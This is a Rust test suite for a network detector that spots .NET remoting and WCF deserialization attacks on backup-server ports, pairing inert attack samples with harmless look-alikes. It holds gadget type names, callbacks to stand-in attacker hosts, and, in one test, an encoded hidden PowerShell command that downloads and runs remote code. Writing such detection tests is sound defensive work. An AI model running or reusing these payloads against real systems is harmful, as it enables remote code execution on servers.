use super::*;

const SID: u64 = 9_401_011;

/// A call with an object as its argument.
fn call_with(class: &str) -> Vec<u8> {
    Stream::default()
        .call("Save", "Lab.IServer, Lab", None)
        .array(1, false, &[Value::Reference(2)])
        .library(9, LIBRARY)
        .object(2, class, Some(9), &[("text", "harmless".into())])
        .end()
}

fn holding_bytes(inner: &[u8]) -> Vec<u8> {
    Stream::default().call("Save", "T", None).array(1, false, &[Value::Reference(2)]).bytes(2, inner).end()
}

fn delegate(target: &str) -> Vec<u8> {
    Stream::default()
        .object(1, "System.DelegateSerializationHolder", None, &[("Delegate", Value::Reference(2))])
        .object(
            2,
            "System.DelegateSerializationHolder+DelegateEntry",
            None,
            &[("targetTypeName", target.into()), ("methodName", "Nothing".into())],
        )
        .end()
}

fn many_types(last: &str) -> Vec<u8> {
    let mut stream = Stream::default();
    for number in 0..900 {
        stream = stream.object(number + 1, &format!("Lab.T{number}"), None, &[("m", Value::Null)]);
    }
    stream.object(1_000, last, None, &[("m", Value::Null)]).end()
}

#[test]
fn objects_that_run_code_are_told_and_their_look_alikes_are_not() {
    let gadget = nrbf::inert(GADGET, LIBRARY);
    let harmless = nrbf::inert("Lab.Job", "Lab");
    let doubly = |inner: &[u8]| holding_bytes(&holding_bytes(inner));
    let in_text = |inner: &[u8]| call(&[&BASE64.encode(inner)]);
    let spaced = |inner: &[u8]| call(&[&BASE64.encode(inner).replace('A', "A ")]);
    let list = |of: &str| call_with(&format!("System.Collections.Generic.List`1[[{of}, X]]"));
    // The attack, then what looks most like it.
    let pairs: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        ("the root", gadget.clone(), call(&[GADGET])),
        ("an argument", call_with(GADGET), call_with("Lab.ObjectDataProvider")),
        ("with its assembly", call_with(&format!("{GADGET}, {LIBRARY}")), call_with("System.Windows.Data.ObjectDataProviders")),
        ("a generic argument", list(GADGET), list("System.Data.DataSet")),
        ("nested in bytes", holding_bytes(&gadget), holding_bytes(&harmless)),
        ("nested twice", doubly(&gadget), doubly(&harmless)),
        ("nested in base64", in_text(&gadget), in_text(&harmless)),
        ("nested in base64 with blanks", spaced(&gadget), spaced(&harmless)),
        ("a data set instead of a call", nrbf::inert("System.Data.DataSet", "System.Data"), call_with("System.Data.DataSet")),
        (
            "an identity instead of a call",
            nrbf::inert("System.Security.Principal.WindowsIdentity", "mscorlib"),
            call_with("System.Security.Principal.WindowsIdentity"),
        ),
        ("a delegate to a program", delegate("System.Diagnostics.Process"), {
            let mut ordinary = call_with("Lab.Job");
            ordinary.truncate(ordinary.len() - 1);
            [ordinary.as_slice(), &delegate("Lab.Job")[nrbf::HEADER.len()..]].concat()
        }),
        ("behind many other types", many_types(GADGET), many_types("Lab.Last")),
        (
            "a generic comparer",
            call_with("System.Collections.Generic.ComparisonComparer`1[[System.String, mscorlib]]"),
            call_with("System.Collections.Generic.GenericComparer`1[[System.String, mscorlib]]"),
        ),
    ];
    for (name, attack, benign) in pairs {
        let found = at_8000(&attack);
        assert_eq!(sids(&found), [SID], "{name}");
        assert_eq!((found[0].outcome, found[0].confidence), (Outcome::Success, Confidence::High), "{name}");
        assert_eq!((found[0].attacker.port, found[0].victim.port), (50_000, 8_000));
        assert_eq!(sids(&at_8000(&benign)), [0_u64; 0], "{name}");
    }
}

#[test]
fn remote_objects_elsewhere_are_told_and_callbacks_are_not() {
    let by_name = |uri: &str, content: &[u8]| played(&|| to_port(8_000), &vec![(UP, nrbf::request(uri, content))]);
    let named = "tcp://vbr01.example.lan:8000/AgentService";
    // 10.20.30.77 is the client, 10.20.30.10 the server.
    let pairs: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        (
            "an address outside",
            nrbf::callback("tcp://198.51.100.7:4444", "/x.rem"),
            nrbf::callback("tcp://10.20.30.77:4444", "/x.rem"),
        ),
        (
            "another host inside",
            nrbf::callback("tcp://10.20.30.99:4444", "/x.rem"),
            nrbf::callback("tcp://10.20.30.10:8000", "/x.rem"),
        ),
        ("the object itself elsewhere", nrbf::callback("", "http://198.51.100.7/x"), nrbf::callback("", "/guid/x.rem")),
        (
            "nothing but an address",
            nrbf::bare_reference("http://198.51.100.7:8000/x"),
            nrbf::bare_reference("tcp://10.20.30.10:8000/AgentService"),
        ),
        (
            "nothing but the client's address",
            nrbf::bare_reference("http://10.20.30.77:8000/x"),
            nrbf::callback("http://10.20.30.77:8000", "x"),
        ),
        (
            "a user in front of the host",
            nrbf::bare_reference("http://10.20.30.10@198.51.100.7/x"),
            nrbf::bare_reference("http://user@10.20.30.10/x"),
        ),
        ("another domain", nrbf::callback("tcp://c2.example.net:1", "/x"), nrbf::callback("tcp://console.example.lan:1", "/x")),
        ("over IPv6", nrbf::callback("tcp://[2001:db8::7]:1", "/x"), nrbf::callback("tcp://[::ffff:10.20.30.77]:1", "/x")),
        (
            "a pipe beside an address",
            nrbf::callback("tcp://198.51.100.8:1", "ipc://channel/x"),
            nrbf::callback("ipc://channel", "ipc://channel/x"),
        ),
    ];
    for (name, attack, benign) in pairs {
        let found = by_name(named, &attack);
        assert_eq!(sids(&found), [SID], "{name}");
        assert_eq!(found[0].outcome, Outcome::Unknown);
        assert!(object(&found[0].context, "nrbf").get("foreign_objects").is_some(), "{name}");
        assert_eq!(sids(&by_name(named, &benign)), [0_u64; 0], "{name}");
    }
    // An address as an argument is a text.
    assert!(at_8000(&call(&["http://198.51.100.7/x", "System.Runtime.Remoting.ObjRef"])).is_empty());
    assert_eq!(by_name(named, &nrbf::callback("tcp://c2.example.net:1", "/x"))[0].confidence, Confidence::Medium);
}

#[test]
fn the_port_is_one_of_the_product_or_the_server_is_known() {
    let script = remoting(&nrbf::inert(GADGET, LIBRARY));
    for port in [8_000, 9_380, 9_392, 9_396, 6_170, 6_160] {
        assert!(played(&|| to_port(port), &script)[0].requires.is_empty(), "{port}");
    }
    // On another port it counts where the server is a backup server.
    let admitted = |change: &dyn Fn(&mut DetectConfig)| {
        let mut flow = with(5_555, change);
        flow.replay_script(&script, 100);
        flow.admitted_sids()
    };
    assert_eq!(admitted(&|_| {}), [0_u64; 0]);
    assert_eq!(admitted(&|config| config.backup_servers = vec!["10.20.30.10/32".parse().unwrap()]), [SID]);
    assert_eq!(admitted(&|config| config.remoting.ports = vec![5_555]), [SID]);
}

#[test]
fn types_of_the_configuration_count_too() {
    let own = || with(8_000, |config| config.remoting.gadget_types = vec!["Lab.Own".to_owned()]);
    assert_eq!(sids(&played(&own, &remoting(&call_with("Lab.Own")))), [SID]);
    assert!(played(&own, &remoting(&call_with("Lab.Owner"))).is_empty());
}

#[test]
fn a_reply_that_runs_code_in_a_backup_server_is_told() {
    let script: Script =
        vec![(UP, nrbf::request("http://203.0.113.9/x", &call(&["a"]))), (DOWN, nrbf::reply(&nrbf::inert(GADGET, LIBRARY)))];
    let mut flow = with(4_444, |config| config.backup_servers = vec!["10.20.30.10/32".parse().unwrap()]);
    (flow.client, flow.server) =
        (Endpoint::new("10.20.30.10".parse().unwrap(), 50_000), Endpoint::new("203.0.113.9".parse().unwrap(), 4_444));
    flow.replay_script(&script, 50);
    assert_eq!(flow.admitted_sids(), [SID]);
    let found = flow.take();
    assert_eq!((found[0].attacker, found[0].victim, found[0].direction), (flow.server, flow.client, DOWN));
    // Objects of its own are what a server hands out.
    let mut flow = to_port(8_000);
    flow.replay_script(
        &vec![(UP, nrbf::request(URI, &call(&["a"]))), (DOWN, nrbf::reply(&nrbf::callback("tcp://10.20.30.99:1", "x")))],
        50,
    );
    assert!(flow.take().is_empty());
}

#[test]
fn the_outcome_is_that_of_the_reply() {
    let request = nrbf::request(URI, &nrbf::inert(GADGET, LIBRARY));
    let returned = nrbf::reply(&Stream::default().returned(None).end());
    let exception = nrbf::reply(&Stream::default().exception("System.InvalidCastException").end());
    for (reply, outcome) in [
        (Some(returned), Outcome::Success),
        (Some(exception), Outcome::Attempt),
        (Some(nrbf::failure("no")), Outcome::Attempt),
        (None, Outcome::Unknown),
    ] {
        let mut script: Script = vec![(UP, request.clone())];
        script.extend(reply.map(|reply| (DOWN, reply)));
        assert_eq!(played(&|| to_port(8_000), &script)[0].outcome, outcome);
    }
    // What waits for its reply does so for a bounded time.
    let mut flow = to_port(8_000);
    let driver = flow.start(&[(UP, request)]);
    assert!(flow.take().is_empty() && flow.wants_tick());
    flow.wait(900);
    assert_eq!(sids(&flow.take()), [SID]);
    flow.finish(driver);
    assert!(flow.take().is_empty());
}

#[test]
fn the_same_cause_is_told_once_a_flow() {
    let request = nrbf::request(URI, &nrbf::inert(GADGET, LIBRARY));
    let other = nrbf::request(URI, &nrbf::inert("System.Management.Automation.PSObject", "X"));
    assert_eq!(sids(&played(&|| to_port(8_000), &vec![(UP, [request.clone(), request, other].concat())])), [SID, SID]);
}

#[test]
fn chunks_and_one_way_calls_hide_nothing() {
    let headers = nrbf::request_headers(URI);
    for (operation, size) in [(nrbf::operation::REQUEST, 1), (nrbf::operation::ONE_WAY, 40)] {
        let script = vec![(UP, nrbf::chunked(operation, &headers, &nrbf::inert(GADGET, LIBRARY), size))];
        assert_eq!(sids(&played(&|| to_port(6_170), &script)), [SID]);
    }
}

#[test]
fn bodies_of_http_are_read_and_their_look_alikes_are_silent() {
    let gadget = nrbf::inert(GADGET, LIBRARY);
    let binary = "application/octet-stream";
    let soap = |class: &str| {
        format!(
            "<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"x\"><SOAP-ENV:Body><a1:{class} id=\"ref-1\" xmlns:a1=\"http://schemas.microsoft.com/clr/\
             nsassem/System.Windows.Data/PresentationFramework%2C%20Version%3D4.0.0.0\"><text>harmless</text></a1:{class}>\
             </SOAP-ENV:Body></SOAP-ENV:Envelope>"
        )
    };
    let json = |bytes: &[u8]| format!("{{\"state\": \"{}\"}}", BASE64.encode(bytes));
    let pairs: Vec<(&str, Script, Script)> = vec![
        ("binary", post("/x.rem", binary, &gadget, "200"), post("/x.rem", binary, &call(&[GADGET]), "200")),
        ("without its type", post("/x", "text/plain", &gadget, "200"), post("/x", "text/plain", GADGET.as_bytes(), "200")),
        (
            "soap",
            post("/x.rem", "text/xml", soap("ObjectDataProvider").as_bytes(), "500"),
            post("/x.rem", "text/xml", soap("Binding").as_bytes(), "200"),
        ),
        (
            "in json",
            post("/api", "application/json", json(&gadget).as_bytes(), "200"),
            post("/api", "application/json", json(&nrbf::inert("Lab.A", "Lab")).as_bytes(), "200"),
        ),
        (
            "a remote object",
            post("/x.rem", binary, &nrbf::bare_reference("http://198.51.100.7/x"), "200"),
            post("/x.rem", binary, &nrbf::callback("http://10.20.30.77:1", "x"), "200"),
        ),
    ];
    for (name, attack, benign) in pairs {
        let found = played(&|| to_port(9_392), &attack);
        assert_eq!(sids(&found), [SID], "{name}");
        assert_eq!(found[0].outcome, if name == "soap" { Outcome::Attempt } else { Outcome::Success }, "{name}");
        assert!(found[0].context.get("http").is_some());
        assert_eq!(sids(&played(&|| to_port(9_392), &benign)), [0_u64; 0], "{name}");
    }
}

/// A WCF request whose argument is this text, and its reply.
fn wcf(flow: &mut Flow, text: &str, fault: bool) -> Vec<Finding> {
    let escaped = text.replace('&', "&amp;").replace('<', "&lt;");
    let tree = xml::parse(&format!("<Invoke><parameters>{escaped}</parameters></Invoke>"), &Limits::default()).unwrap();
    let request = soap::Message { body: Some(tree.root), ..soap::Message::default() };
    let reply = soap::Message { fault: fault.then(soap::Fault::default), ..soap::Message::default() };
    let exchange =
        |stage, reply| Transaction::Nmf(nmf::Transaction::Exchange(nmf::Exchange { tx_id: 0, stage, request: &request, reply }));
    flow.transaction(&exchange(nmf::Stage::Requested, None));
    flow.transaction(&exchange(nmf::Stage::Answered, Some(&reply)));
    flow.take()
}

#[test]
fn objects_in_parameters_of_veeams_invocations_are_read() {
    let spec = |value: &str| {
        format!(
            "<RemoteInvokeSpec Method=\"A\"><Params><Param ParamName=\"p\" ParamValue=\"{value}\" ParamType=\"x\"/></Params></RemoteInvokeSpec>"
        )
    };
    let gadget = BASE64.encode(&nrbf::inert(GADGET, LIBRARY));
    let hidden = gadget.replacen('A', "&#65;", 1);
    let harmless = BASE64.encode(&nrbf::inert("Veeam.Backup.Model.CJobInfo", "Veeam.Backup.Model"));
    for (attack, benign) in [
        (spec(&gadget), spec(&harmless)),
        (spec(&hidden), spec(&harmless.replacen('A', "&#65;", 1))),
        (gadget.clone(), GADGET.to_owned()),
    ] {
        let found = wcf(&mut to_port(9_401), &attack, false);
        assert_eq!(sids(&found), [SID], "{attack}");
        assert_eq!(found[0].outcome, Outcome::Success);
        assert!(wcf(&mut to_port(9_401), &benign, false).is_empty());
    }
    assert_eq!(wcf(&mut to_port(9_401), &spec(&gadget), true)[0].outcome, Outcome::Attempt);
}

#[test]
fn commands_in_arguments_go_to_the_content_decoder() {
    let line = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA";
    let found = at_8000(&call(&[line]));
    assert!(sids(&found).contains(&9_403_004), "{:?}", sids(&found));
    assert!(found.iter().all(|finding| finding.context.get("nrtp").is_some()));
    assert!(at_8000(&call(&["powershell", "Backup job 1 finished"])).is_empty());
    let behind = [vec!["powershell -Command Get-Date"; 200], vec![line]].concat();
    assert!(sids(&at_8000(&call(&behind))).contains(&9_403_004));
}

#[test]
fn the_evidence_is_decoded_bounded_and_without_secrets() {
    let long = "x".repeat(50_000);
    let content = Stream::default()
        .library(2, LIBRARY)
        .object(
            1,
            GADGET,
            Some(2),
            &[
                ("MethodName", "Nothing".into()),
                ("Password", "geheim".into()),
                ("text", "password=geheim2 end".into()),
                ("long", long.as_str().into()),
            ],
        )
        .end();
    let found = at_8000(&content);
    let nrbf = object(&found[0].context, "nrbf");
    assert_eq!(format!("{:?}", nrbf.get("gadget_types")), format!("Some(List([Text(\"{GADGET}\")]))"));
    let shown = format!("{:?} {}", found[0].context, String::from_utf8_lossy(&found[0].excerpt));
    assert!(!shown.contains("geheim"), "{shown}");
    assert!(shown.len() < 20_000 && found[0].excerpt.len() <= 1_024, "{}", shown.len());
    assert!(found[0].excerpt_of > 50_000);
}

#[test]
fn real_remoting_is_silent() {
    for name in ["remoting_0", "remoting_mono_tcp", "remoting_mono_http", "remoting_mono_soap"] {
        for port in [8_000, 6_170, 9_392] {
            let mut flow = to_port(port);
            // The console whose address the callbacks name.
            flow.client.addr = "10.20.30.5".parse().unwrap();
            flow.replay_script(&fixture(name).unwrap(), 1_460);
            assert!(flow.take().is_empty(), "{name}");
        }
    }
}
